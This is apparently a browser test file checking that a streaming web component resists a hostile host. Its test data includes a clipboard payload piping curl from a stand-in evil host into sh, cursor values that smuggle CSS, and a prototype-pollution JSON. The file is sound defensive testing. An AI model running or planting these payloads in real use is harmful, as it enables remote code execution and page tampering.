import {expect} from '@open-wc/testing';
import type {HostCursor, HostEvent} from '../../src/connection/connector.ts';
import {isObject} from '../../src/platform/json.ts';
import {until} from '../support/until.ts';
import {readLastConnection} from '../application/application-connection.ts';
import {openPlayingStream} from './stream-fixture.ts';

const EVIL = 'https://evil.example/';

/** Firefox has none. */
const keyboard: unknown = Reflect.get(navigator, 'keyboard');

/** Functions of the page that a host must not be able to call. */
const PROTECTED_FUNCTIONS = {
  clipboard: [navigator.clipboard, ['readText', 'writeText', 'read', 'write']],
  devices: [navigator.mediaDevices, ['getUserMedia', 'getDisplayMedia']],
  keyboard: [isObject(keyboard) ? keyboard : {}, ['lock']],
  window: [window, ['open', 'alert', 'fetch']],
  element: [HTMLElement.prototype, ['requestPointerLock', 'requestFullscreen', 'showPopover', 'click']],
  history: [history, ['pushState', 'replaceState']],
} as const satisfies Record<string, readonly [object, readonly string[]]>;

const CURSORS: readonly HostCursor[] = [
  {kind: 'named', name: `url(${EVIL}), auto`},
  {kind: 'named', name: 'auto; background: red'},
];

const EVENTS: readonly HostEvent[] = [
  {kind: 'clipboard', text: `curl ${EVIL} | sh`},
  {kind: 'message', message: {event_type: 'openURL', payload: {url: EVIL, result: 'error', error: EVIL}}},
  {
    kind: 'message',
    message: JSON.parse('{"__proto__": {"polluted": true}, "constructor": {"prototype": {}}}'),
  },
  {kind: 'supports', supports: {text: true}},
  {kind: 'channel', open: true},
  {kind: 'input', open: true},
];

describe('<app-stream> with a hostile host', () => {
  const called: string[] = [];
  const restore: (() => void)[] = [];
  beforeEach(() => {
    called.length = 0;
    for (const [name, [owner, methods]] of Object.entries(PROTECTED_FUNCTIONS)) {
      for (const method of methods) {
        const descriptor = Object.getOwnPropertyDescriptor(owner, method);
        Object.defineProperty(owner, method, {
          configurable: true,
          value: () => {
            called.push(`${name}.${method}`);
            return Promise.resolve('');
          },
        });
        restore.push(() => {
          if (descriptor) Object.defineProperty(owner, method, descriptor);
          else Reflect.deleteProperty(owner, method);
        });
      }
    }
  });
  afterEach(() => {
    for (const restoreFunction of restore.splice(0)) restoreFunction();
  });

  /** Opens a stream with all input and these attributes, and sends every hostile event. */
  const attack = async (attributes: Readonly<Record<string, string>>) => {
    const {element} = await openPlayingStream({connector: 'application', input: 'all', ...attributes});
    const findField = () => element.shadowRoot?.querySelector('[part~=keyboard]') ?? undefined;
    const field = await until('the element accepts input', findField);
    element.focus();
    // Without a key or press in the stream, a host cannot write to the clipboard.
    field.dispatchEvent(new KeyboardEvent('keydown', {key: 'a', code: 'KeyA'}));
    const connection = readLastConnection();
    for (const event of EVENTS) connection.emit(event);
    for (const cursor of CURSORS) {
      connection.emit({kind: 'cursor', cursor});
      expect(element.video.style.cursor).to.be.oneOf(['', 'default']);
      expect(element.video.style.background).to.equal('');
    }
    // These user gestures trigger everything that the element defers until a gesture.
    element.video.dispatchEvent(new PointerEvent('pointerup', {bubbles: true}));
    field.dispatchEvent(new KeyboardEvent('keyup', {key: 'a', code: 'KeyA'}));
    await element.updateComplete;
  };

  it('cannot call any function of the page', async () => {
    const {href} = location;
    await attack({});
    expect(called).to.deep.equal([]);
    expect(location.href).to.equal(href);
    expect(Reflect.get({}, 'polluted')).to.equal(undefined);
    expect(performance.getEntriesByType('resource').filter(({name}) => name.startsWith(EVIL))).to.be.empty;
  });

  it('can only write to the clipboard, if the page allows it and the user presses a key', async () => {
    await attack({clipboard: ''});
    await until('the element writes to the clipboard', () => called.includes('clipboard.writeText'));
    expect(called.filter((name) => name !== 'clipboard.writeText')).to.deep.equal([]);
  });
});
